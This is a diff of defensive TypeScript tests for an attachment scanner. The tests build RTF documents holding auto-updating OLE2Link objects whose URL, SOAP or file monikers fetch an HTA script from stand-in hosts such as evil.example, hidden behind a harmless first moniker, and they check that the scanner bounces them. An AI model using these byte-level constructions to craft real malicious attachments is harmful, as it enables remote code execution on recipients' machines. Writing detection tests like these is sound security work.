@@ -176,3 +176,80 @@ describe('held: nested packagings', () => {
     expect(await verdict('Invoice.rtf', Buffer.from(rtfWithObject('Package', hidden)))).toBe('BOUNCE');
   });
 });
+
+// Read-back of A48-12b: the stream framed as MS-OLEDS 2.3.3 says (reserved, relative and absolute monikers, each
+// after its size plus 4), with a harmless moniker first.
+describe('A48-12b (read-back): a link whose harmless moniker comes first', () => {
+  const urlMoniker = (url: string) => {
+    const text = Buffer.from(`${url}\0`, 'utf16le');
+    return Buffer.concat([Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'), u32(text.length), text]);
+  };
+  const fileMoniker = (ansi: string, wide: string) => {
+    const path = z(ansi);
+    const unicode = Buffer.from(wide, 'utf16le');
+    return Buffer.concat([
+      Buffer.from('0303000000000000c000000000000046', 'hex'),
+      Buffer.from([0, 0]),
+      u32(path.length),
+      path,
+      Buffer.from([0xff, 0xff, 0xad, 0xde]),
+      Buffer.alloc(20),
+      u32(unicode.length + 6),
+      u32(unicode.length),
+      Buffer.from([3, 0]),
+      unicode,
+    ]);
+  };
+  const sized = (moniker: Buffer) => Buffer.concat([u32(moniker.length + 4), moniker]);
+  const linked = (reserved: Buffer, relative: Buffer, absolute: Buffer) => {
+    const stream = Buffer.concat([
+      u32(0x02000001),
+      u32(1),
+      u32(1),
+      u32(0),
+      sized(reserved),
+      sized(relative),
+      sized(absolute),
+    ]);
+    const rtf = rtfWithObject('OLE2Link', compoundFile([['\u0001Ole', stream]]));
+    return verdict(
+      'Invoice.rtf',
+      Buffer.from(rtf.replace('\\object\\objemb', '\\object\\objautlink\\objupdate')),
+    );
+  };
+  it('bounces a .hta behind a harmless URL in the reserved moniker', async () => {
+    expect(
+      await linked(
+        urlMoniker('http://files.example/report.pdf'),
+        Buffer.alloc(0),
+        urlMoniker('http://evil.example/invoice.hta'),
+      ),
+    ).toBe('BOUNCE');
+  });
+  it('bounces a SOAP moniker behind a harmless URL', async () => {
+    const soap = Buffer.concat([
+      Buffer.from('c7b0abec197fd211978e0000f8757e2a', 'hex'),
+      u32(8),
+      Buffer.from('soap:x\0\0', 'latin1'),
+    ]);
+    expect(await linked(urlMoniker('http://files.example/report.pdf'), Buffer.alloc(0), soap)).toBe('BOUNCE');
+  });
+  it('bounces a file moniker whose Unicode path names a script', async () => {
+    expect(
+      await linked(
+        Buffer.alloc(0),
+        Buffer.alloc(0),
+        fileMoniker('\\\\files\\q3\\report.pdf', '\\\\evil\\s\\invoice.hta'),
+      ),
+    ).toBe('BOUNCE');
+  });
+  it('(control) sends a link to a workbook by a file moniker', async () => {
+    expect(
+      await linked(
+        Buffer.alloc(0),
+        Buffer.alloc(0),
+        fileMoniker('\\\\files\\q3\\book.xlsx', '\\\\files\\q3\\book.xlsx'),
+      ),
+    ).toBe('DEFAULT');
+  });
+});
